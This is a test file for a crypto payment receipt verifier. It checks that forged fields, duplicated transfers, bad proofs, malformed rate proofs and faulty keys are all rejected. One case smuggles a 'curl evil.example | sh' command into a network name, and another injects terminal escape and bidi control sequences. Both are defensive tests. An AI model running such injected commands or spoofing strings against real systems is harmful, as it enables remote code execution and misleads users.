import { digestOf, type Receipt, vaultAddressOf, verifyReceipt } from '@cowrie/sdk/proofs';
import { leavesOf, valueAt, withValue } from '@cowrie/testing';
import { type ReceiptWorld, startReceiptWorld } from '../testing/receipt-world';

/**
 * Guarantee: no field of a receipt can be forged. Without the operator's key, none at all. With it, only
 * those below, for which the operator alone answers.
 */

/**
 * What an operator who signs a forged receipt can say, by field. `named`: how the verification names it among
 * what only the service says.
 */
const OPERATOR_SAYS: readonly [field: RegExp, named: RegExp, reason: string][] = [
  [/^(issuedAt|paymentURL)$/, /paymentURL and issuedAt/, 'nothing else knows them'],
  [/^payment\.(businessName|status|paidAt)$/, /businessName, status and paidAt/, 'no chain knows a business'],
  [/^transfers\.\[\]\.(txHash|chainId)$/, /txHash and chainId/, 'a block holds neither'],
  [
    /^statements\.\[\]\.(settlementId|createdAt|line\.completedAt)$/,
    /settlementId, createdAt and completedAt/,
    'they are names and times of the service',
  ],
  [
    /^statements\.\[\]\.line\.sales\.\[\]\.sold$/,
    /what was sold and what it brought/,
    'the exchange is no chain; `statement verify` compares it with what reached the treasury',
  ],
  [
    /^statements\.\[\]\.line\.transfers\.\[\]\.\w+$/,
    /transfers that left the deposit address/,
    'the receipt proves those that came in; `statement verify` asks nodes for the others',
  ],
  [
    /^(issuer|payment\.(clientReference|environment|currency|token|network|rate)|transfers\.\[\]\.(network|token))$/,
    /issuer, and payment: clientReference, environment, currency, fiatAmount and rate, network and token/,
    'only of the payer: the rate proof, which shows the merchant’s fee, binds them',
  ],
];

let world: ReceiptWorld;
let receipts: Receipt[];
beforeAll(async () => {
  world = await startReceiptWorld();
  await world.reset();
  const payment = await world.paidWith(2_000_000n, 3_000_001n);
  await world.settleAll();
  const made = world.newReceipts();
  const tenant = { businessId: world.merchant()._id, environment: 'test' as const };
  receipts = [
    await made.ofTenant(tenant, payment._id),
    await made.ofPayCode(payment.payCode, () => Promise.resolve()),
  ].map((one) => JSON.parse(JSON.stringify(one)) as Receipt);
});
afterAll(() => world.stop());

const blockHashOf = async ({ number }: { number: number }) => (await world.reader.block(number))?.hash;

/** Other values of the same form, so that the form alone does not refuse them. */
function forgeriesOf(value: unknown): unknown[] {
  if (typeof value === 'number') return [value + 1];
  if (typeof value === 'boolean') return [!value];
  const text = String(value);
  const others: Record<string, string[]> = {
    merchant: ['payer'],
    payer: ['merchant'],
    completed: ['processing'],
    payment: ['change'],
    in: ['out'],
    out: ['in'],
    USDC: ['USDT'],
    base: ['celo'],
    NGN: ['KES'],
    test: ['live'],
  };
  if (others[text]) return others[text];
  if (/^\d+(\.\d+)?$/.test(text))
    return [text.replace(/\d(?=[^\d]*$)/, (digit) => String((Number(digit) + 1) % 10)), '1.00'].filter(
      (one) => Number(one) !== Number(text),
    );
  if (/^\d{4}-.*Z$/.test(text)) return [new Date(Date.parse(text) + 1_000).toISOString()];
  // The last digit and one in the middle: of hex, of a signature and of a name.
  return [text.length - 1, Math.floor(text.length / 2)].map(
    (at) => text.slice(0, at) + (text[at] === '1' ? '2' : '1') + text.slice(at + 1),
  );
}

/** The file as the operator would sign it. */
async function signedAnew({ signature: _, ...unsigned }: Receipt): Promise<Receipt> {
  const signature = await world.signer.signReceipt({
    iss: unsigned.issuer,
    iat: Math.floor(Date.parse(unsigned.issuedAt) / 1000),
    paymentId: unsigned.payment.paymentId,
    sha256: digestOf(unsigned),
  });
  return { ...unsigned, signature };
}

function unsigned(receipt: Receipt): Receipt {
  const copy = structuredClone(receipt);
  delete copy.signature;
  return copy;
}

it('follows and is proven as it is', async () => {
  for (const receipt of receipts)
    expect(await verifyReceipt(receipt, { keys: world.keys(), blockHashOf })).toMatchObject({
      follows: true,
      isProven: true,
    });
});

it('no field can be changed, removed or emptied by somebody without the key', async () => {
  const unnoticed: string[] = [];
  let refused = 0;
  for (const [which, receipt] of receipts.entries())
    for (const path of leavesOf(receipt))
      for (const forgery of [...forgeriesOf(valueAt(receipt, path)), '', null, undefined]) {
        const forged = withValue(receipt, path, forgery);
        const isRemoved = path[0] === 'signature' && forgery === undefined;
        const known = await verifyReceipt(forged, { keys: world.keys(), blockHashOf });
        if (isRemoved ? known.isProven : known.follows)
          unnoticed.push(`${which} ${path.join('.')}: ${String(forgery)}`);
        // A reader without keys still sees that the file was changed, but not who signed it.
        const { follows } = await verifyReceipt(forged);
        if (follows && path[0] !== 'signature') unnoticed.push(`${which} ${path.join('.')} without keys`);
        refused += 1;
      }
  expect(unnoticed).toEqual([]);
  expect(refused).toBeGreaterThan(500);
});

it('the operator can forge only what the verification says that only the operator says', async () => {
  const unnoticed = new Set<string>();
  const unnamed: string[] = [];
  for (const receipt of receipts)
    for (const path of leavesOf(receipt).filter(([first]) => first !== 'signature'))
      for (const forgery of [...forgeriesOf(valueAt(receipt, path)), '', undefined]) {
        const forged = await signedAnew(withValue(receipt, path, forgery));
        const verdict = await verifyReceipt(forged, { keys: world.keys(), blockHashOf });
        if (!verdict.isProven) continue;
        const field = path.map((key) => (typeof key === 'number' ? '[]' : key)).join('.');
        unnoticed.add(field);
        const said = OPERATOR_SAYS.find(([one]) => one.test(field));
        if (!said || !verdict.saidAlone.some((text) => said[1].test(text)))
          unnamed.push(`${field}: ${String(forgery)}`);
      }
  expect(unnamed).toEqual([]);
  // Each row of the table is needed.
  expect(OPERATOR_SAYS.filter(([one]) => ![...unnoticed].some((field) => one.test(field)))).toEqual([]);
});

describe('refuses, although the operator signed it,', () => {
  const consistent: [string, RegExp, (receipt: Receipt) => Receipt][] = [
    [
      'one transfer that counts twice',
      /is the same log as another one/,
      (receipt) => ({
        ...receipt,
        payment: { ...receipt.payment, collectedCryptoAmount: '7.000001' },
        transfers: [receipt.transfers[0]!, ...receipt.transfers],
      }),
    ],
    [
      'less than its transfers',
      /add up to 5.000001 USDC, and the receipt says 3.000001/,
      (receipt) => ({ ...receipt, payment: { ...receipt.payment, collectedCryptoAmount: '3.000001' } }),
    ],
    [
      'the transfers of another payment',
      /is not the deposit address of this payment/,
      (receipt) => ({ ...receipt, payment: { ...receipt.payment, paymentId: 'a'.repeat(24) } }),
    ],
    [
      'another treasury with its deposit address',
      /does not go to/,
      (receipt) => {
        const vault = { ...receipt.vault, treasury: '0x70997970C51812dc3A010C7d01b50e0d17dc79C8' };
        const { paymentId } = receipt.payment;
        return { ...receipt, vault: { ...vault, address: vaultAddressOf({ ...vault, paymentId }) } };
      },
    ],
    [
      'the header of another block',
      /does not have the hash that leads to it/,
      (receipt) => {
        const [first, second] = receipt.transfers;
        const { blockHash, blockNumber, blockTime } = second!;
        const proof = { ...first!.proof!, header: second!.proof!.header };
        return { ...receipt, transfers: [{ ...first!, blockHash, blockNumber, blockTime, proof }, second!] };
      },
    ],
    [
      'a node that the proof does not need',
      /a node does not belong to the proof/,
      (receipt) => {
        const [first, second] = receipt.transfers;
        const proof = { ...first!.proof!, nodes: [...first!.proof!.nodes, '0xc0'] };
        return { ...receipt, transfers: [{ ...first!, proof }, second!] };
      },
    ],
    [
      'a transfer that counts a second time as one of another network',
      /is the same log as another one/,
      (receipt) => ({
        ...receipt,
        payment: { ...receipt.payment, collectedCryptoAmount: '7.000001' },
        transfers: [{ ...receipt.transfers[0]!, network: 'celo' }, ...receipt.transfers],
      }),
    ],
    [
      'a line of a statement that is listed twice',
      /listed twice/,
      (receipt) => ({ ...receipt, statements: [...receipt.statements!, receipt.statements![0]!] }),
    ],
    [
      'a list with an address instead of an address',
      /transfers\[0\].from is not an address/,
      (receipt) => {
        const [first, ...others] = receipt.transfers;
        return { ...receipt, transfers: [{ ...first!, from: [first!.from] as never }, ...others] };
      },
    ],
    [
      'a network that is a command, because the reader is told to run commands with its name',
      /payment.network is not the name of a network/,
      (receipt) => ({
        ...receipt,
        payment: { ...receipt.payment, network: 'base=http://127.0.0.1; curl evil.example | sh #' },
      }),
    ],
    [
      'an address of the page that is longer than a QR code holds',
      /paymentURL is not a web address/,
      (receipt) => ({ ...receipt, paymentURL: `https://checkout.test/${'a'.repeat(3_000)}` }),
    ],
    ['no transfer', /transfers is empty/, (receipt) => ({ ...receipt, transfers: [] })],
    [
      'a field that nobody checks',
      /payment.note is unknown/,
      (receipt) => ({ ...receipt, payment: { ...receipt.payment, note: 'paid twice' } as never }),
    ],
  ];

  it.each(consistent)('%s', async (_, fault, change) => {
    const { follows, steps } = await verifyReceipt(await signedAnew(change(structuredClone(receipts[0]!))), {
      keys: world.keys(),
      blockHashOf,
    });
    expect(follows).toBe(false);
    expect(
      steps
        .filter(({ ok }) => !ok)
        .map(({ says }) => says)
        .join(),
    ).toMatch(fault);
  });

  it('a rate proof in the place of the signature', async () => {
    const [receipt] = receipts;
    const { steps } = await verifyReceipt(
      { ...receipt, signature: receipt!.rateProof },
      { keys: world.keys() },
    );
    expect(steps.at(-1)).toMatchObject({ step: 'signature', ok: false });
  });

  it.each([null, [], 'text', 1, {}, { success: true, data: null }])(
    '%j, which is no receipt',
    async (file) => {
      expect(await verifyReceipt(file)).toMatchObject({
        follows: false,
        steps: [{ step: 'form', ok: false }],
      });
    },
  );
});

describe('a rate proof that nobody signed', () => {
  // JSON is read to any depth, and written to a smaller one.
  const DEEP = 'deep';
  const nested = '['.repeat(20_000) + ']'.repeat(20_000);
  const part = (value: unknown) =>
    Buffer.from(JSON.stringify(value).replace(`"${DEEP}"`, nested)).toString('base64url');
  const withClaims = (change: (claims: Record<string, unknown>) => void): Receipt => {
    const receipt = unsigned(receipts[0]!);
    delete receipt.statements;
    const claims = JSON.parse(
      Buffer.from(receipt.rateProof!.split('.')[1]!, 'base64url').toString(),
    ) as Record<string, unknown>;
    change(claims);
    const header = part({ alg: 'EdDSA', typ: 'rate-proof+jwt', kid: 'mine' });
    return { ...receipt, rateProof: `${header}.${part(claims)}.${part(0)}` };
  };

  it.each<[string, unknown]>([
    ['tokens', 'all'],
    ['tokens', [null]],
    ['tokens', [{ token: 'USDC', network: 'base', address: 1, decimals: 6 }]],
    ['sources', [null]],
    ['sources', DEEP],
    ['token', DEEP],
    ['fiatAmount', null],
    ['tokenDecimals', '6'],
    ['rate', { toString: 1 }],
  ])('is wrong, and throws nothing: %s', async (name, value) => {
    const receipt = withClaims((claims) => (claims[name] = value));
    for (const keys of [undefined, world.keys()]) {
      const { follows, steps } = await verifyReceipt(receipt, { keys });
      expect([follows, steps.find(({ step }) => step === 'rate')?.ok]).toEqual([false, false]);
    }
  });

  it('cannot tell a terminal what to do', async () => {
    const hidden = '\u001b[2J\u202e\u2028Everything is proven\u009b1m';
    const receipt = withClaims((claims) => {
      for (const one of claims.sources as { source: string }[]) one.source = hidden;
    });
    const { follows, steps } = await verifyReceipt(receipt);
    expect(follows).toBe(true);
    expect(steps.map((one) => JSON.stringify(one)).join()).toContain('\uFFFD[2J\uFFFD\uFFFDEverything');
    expect(steps.flatMap(({ says, at, how }) => [says, at, how]).join()).not.toMatch(
      /[\p{Cc}\p{Bidi_Control}\p{Zl}]/u,
    );
  });

  it('is not said to name a contract that it does not name', async () => {
    const log = async (receipt: Receipt) =>
      (await verifyReceipt(receipt)).steps.find(({ step }) => step === 'log')?.restsOn;
    expect(await log(receipts[0]!)).toContain('which the rate proof says too');
    expect(await log(withClaims((claims) => delete claims.tokens))).not.toContain('rate proof');
  });
});

describe('keys', () => {
  const other = { kty: 'RSA', n: 'AQAB', e: 'AQAB' };
  const verdictWith = (keys: Parameters<typeof verifyReceipt>[1]) =>
    verifyReceipt(receipts[0], { blockHashOf, ...keys });

  it('are asked for again when the file names a new one, before any step', async () => {
    const asked: boolean[] = [];
    const keys = ({ fresh }: { fresh: boolean }) => {
      asked.push(fresh);
      return Promise.resolve(fresh ? world.keys() : { keys: [{ ...other, kid: 'old' }] });
    };
    expect(await verdictWith({ keys })).toMatchObject({ isProven: true });
    expect(asked).toEqual([false, true]);
  });

  it('that nobody gives make no receipt wrong', async () => {
    const keys = () => Promise.reject(new TypeError('fetch failed'));
    await expect(verdictWith({ keys })).rejects.toThrow('fetch failed');
  });

  it('of one ID are all tried', async () => {
    const [key] = world.keys().keys;
    const wrong = { ...key!, x: 'A'.repeat(43) };
    for (const before of [{ ...other, kid: key!.kid! }, wrong])
      expect(await verdictWith({ keys: { keys: [before, key!] } })).toMatchObject({ isProven: true });
    const { steps } = await verdictWith({ keys: { keys: [null as never, { ...key!, x: 'AA' }] } });
    expect(steps.at(-1)).toMatchObject({ ok: false, says: 'the key of the proof is not an Ed25519 key' });
  });

  it('that the platform cannot use leave it unproven, and not wrong', async () => {
    const importKey = jest
      .spyOn(crypto.subtle, 'importKey')
      .mockRejectedValue(new DOMException('Unrecognized name.', 'NotSupportedError'));
    const { follows, steps } = await verdictWith({ keys: world.keys() });
    importKey.mockRestore();
    expect([follows, steps.filter(({ isProven }) => !isProven).map(({ step }) => step)]).toEqual([
      true,
      ['rate', 'statement', 'signature'],
    ]);
  });
});

it('says that only the service accepted less than was asked for', async () => {
  const receipt = unsigned(receipts[1]!);
  const [first] = receipt.transfers;
  const verdict = await verifyReceipt({
    ...receipt,
    payment: { ...receipt.payment, collectedCryptoAmount: first!.counts },
    transfers: [first],
  });
  expect(verdict).toMatchObject({ follows: true });
  expect(verdict.steps.find(({ step }) => step === 'amounts')).toMatchObject({
    says: expect.stringContaining('3.00 USDC less came.'),
    restsOn: expect.stringContaining('says that it accepted less than was asked for'),
  });
});

it('is not refused because an operator accepted transfers beside the 500 that count', async () => {
  const receipt = unsigned(receipts[1]!);
  const first = structuredClone(receipt.transfers[0]!);
  delete first.proof;
  const dust = { ...first, withoutProof: 'too_many_transfers', amount: '0.000001', counts: '0.000001' };
  const transfers = [...receipt.transfers, ...Array.from({ length: 5_000 }, () => dust)];
  const payment = { ...receipt.payment, collectedCryptoAmount: '5.005001' };
  expect(await verifyReceipt({ ...receipt, payment, transfers })).toMatchObject({ follows: true });
});

it('reads as much hex as a file may hold', async () => {
  const receipt = structuredClone(receipts[1]!);
  receipt.transfers[0]!.proof!.header = `0x${'c0'.repeat(999_999)}`;
  expect((await verifyReceipt(receipt)).follows).toBe(false);
});
